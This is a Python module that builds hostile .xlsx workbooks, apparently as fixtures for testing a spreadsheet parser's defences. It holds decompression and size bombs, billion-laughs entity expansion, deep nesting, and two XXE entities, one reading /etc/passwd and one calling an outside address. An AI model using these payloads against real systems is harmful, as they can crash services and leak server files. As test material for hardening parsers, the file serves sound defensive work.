"""Workbooks that nobody should open: small files that grow, nest, lie about themselves, or reach for other things.

Each is a real .xlsx archive, written part by part, because no program that writes workbooks would write these.
"""

import warnings
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from itertools import pairwise
from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_TYPES = (
    f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_KIND}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_KIND}.worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_KIND}.sharedStrings+xml"/>'
    f'<Override PartName="/xl/styles.xml" ContentType="{_KIND}.styles+xml"/></Types>'
)
_ROOT = (
    f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" Type="{_DOCUMENT}/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="{_DOCUMENT}"><sheets><sheet name="People" sheetId="1" r:id="rId1"/></sheets>'
    "</workbook>"
)
_PARTS = (
    f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" Type="{_DOCUMENT}/worksheet" '
    f'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{_DOCUMENT}/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
HEADINGS = ("Name", "Email", "Role", "Team", "Manager", "Service area")
PERSON = ("Alice Osei", "alice@example.org", "Head of Service", "", "", "Safeguarding")
_PIECE = 1 << 20

Text = str | bytes | Iterable[str]


def cells(row: int, values: Iterable[str]) -> str:
    """A row with its values written into the cells themselves."""
    inner = "".join(
        f'<c r="{chr(ord("A") + at)}{row}" t="inlineStr"><is><t>{value}</t></is></c>' for at, value in enumerate(values)
    )
    return f'<row r="{row}">{inner}</row>'


def sheet(*rows: Text, before: str = "") -> Iterator[str]:
    """A sheet with headings and one good row, and then these rows as they are."""
    yield f'{before}<worksheet xmlns="{MAIN}"><sheetData>{cells(1, HEADINGS)}{cells(2, PERSON)}'
    for row in rows:
        yield from [row] if isinstance(row, str) else (str(one) for one in row)
    yield "</sheetData></worksheet>"


def strings(inner: Iterable[str]) -> Iterator[str]:
    """The shared strings of a workbook, as they are."""
    yield f'<sst xmlns="{MAIN}">'
    yield from inner
    yield "</sst>"


def again(text: str, times: int) -> Iterator[str]:
    """A text so many times, in pieces of about a megabyte."""
    at_once = max(_PIECE // len(text), 1)
    whole, rest = divmod(times, at_once)
    for _ in range(whole):
        yield text * at_once
    yield text * rest


def written(path: Path, parts: Mapping[str, Text] | None = None, more: Iterable[tuple[str, Text]] = ()) -> Path:
    """A workbook of one sheet, with these parts in the place of its own, and more beside them."""
    content: dict[str, Text] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _ROOT,
        "xl/workbook.xml": _WORKBOOK,
        "xl/_rels/workbook.xml.rels": _PARTS,
        STRINGS: f'<sst xmlns="{MAIN}"/>',
        STYLES: f'<styleSheet xmlns="{MAIN}"/>',
        SHEET: sheet(),
    }
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        # The library warns of a name that is written twice, which is what some of these do.
        warnings.simplefilter("ignore")
        for name, text in [*(content | dict(parts or {})).items(), *more]:
            with archive.open(name, "w") as part:
                for piece in [text] if isinstance(text, (str, bytes)) else text:
                    part.write(piece.encode() if isinstance(piece, str) else piece)
    return path


Bomb = Callable[[Path], Path]


def _laughs() -> str:
    names = [f"a{number}" for number in range(12)]
    entities = "".join(f'<!ENTITY {name} "{f"&{below};" * 10}">' for below, name in pairwise(names))
    return f'<!DOCTYPE worksheet [<!ENTITY a0 "ha">{entities}]>'


def _entity(what: str) -> str:
    return f"<!DOCTYPE worksheet [<!ENTITY x {what}>]>"


BOMBS: dict[str, Bomb] = {
    "spaces that unpack to sixty megabytes": lambda path: written(
        path, {SHEET: sheet(cells(3, PERSON), again(" ", 60 << 20))}
    ),
    "hundreds of thousands of shared strings": lambda path: written(
        path, {STRINGS: strings(again("<si><t/></si>", 600_000))}
    ),
    "shared strings that pack badly": lambda path: written(
        path, {STRINGS: strings(f"<si><t>{n * 2654435761 % 2**32:x}</t></si>" for n in range(510_000))}
    ),
    "one row of millions of cells": lambda path: written(
        path, {SHEET: sheet('<row r="3">', again("<c/>", 6_000_000), "</row>")}
    ),
    "one shared string of ten megabytes": lambda path: written(
        path, {STRINGS: strings(["<si><t>", *again("x", 10 << 20), "</t></si>"])}
    ),
    "hundreds of thousands of merged cells after the rows": lambda path: written(
        path, {SHEET: sheet(again('<mergeCell ref="A1:B2"/>', 300_000))}
    ),
    "thousands of rows that are sixteen thousand columns wide": lambda path: written(
        path,
        {SHEET: sheet("".join(f'<row r="{row}"><c r="XFD{row}"/></row>' for row in range(3, 5_000)))},
    ),
    "a row number of a billion": lambda path: written(path, {SHEET: sheet('<row r="1000000000"/>')}),
    "a column beyond the last": lambda path: written(path, {SHEET: sheet('<row r="3"><c r="ZZZ3"/></row>')}),
    "a column number of ten letters": lambda path: written(
        path, {SHEET: sheet('<row r="3"><c r="AAAAAAAAAA3"/></row>')}
    ),
    "six thousand parts": lambda path: written(path, more=((f"xl/media/{n}.xml", "x") for n in range(5_100))),
    "the same part six thousand times": lambda path: written(path, more=((SHEET, "x") for n in range(5_100))),
    "elements nested a million deep": lambda path: written(
        path, {SHEET: sheet('<row r="3"><c r="A3">', again("<is>", 1_000_000), again("</is>", 1_000_000), "</c></row>")}
    ),
    "styles nested a hundred thousand deep": lambda path: written(
        path, {STYLES: f'<styleSheet xmlns="{MAIN}">{"<fonts>" * 100_000}{"</fonts>" * 100_000}</styleSheet>'}
    ),
    "a billion laughs": lambda path: written(path, {SHEET: sheet(cells(3, ["&a11;"]), before=_laughs())}),
    "a hundred thousand laughs": lambda path: written(path, {SHEET: sheet(cells(3, ["&a5;"]), before=_laughs())}),
    "laughs in the shared strings": lambda path: written(
        path, {STRINGS: f'{_laughs()}<sst xmlns="{MAIN}"><si><t>&a11;</t></si></sst>'}
    ),
    "an entity that names a file": lambda path: written(
        path, {SHEET: sheet(cells(3, ["&x;"]), before=_entity('SYSTEM "file:///etc/passwd"'))}
    ),
    "an entity that names an address": lambda path: written(
        path, {SHEET: sheet(cells(3, ["&x;"]), before=_entity('SYSTEM "http://192.0.2.1/x"'))}
    ),
}
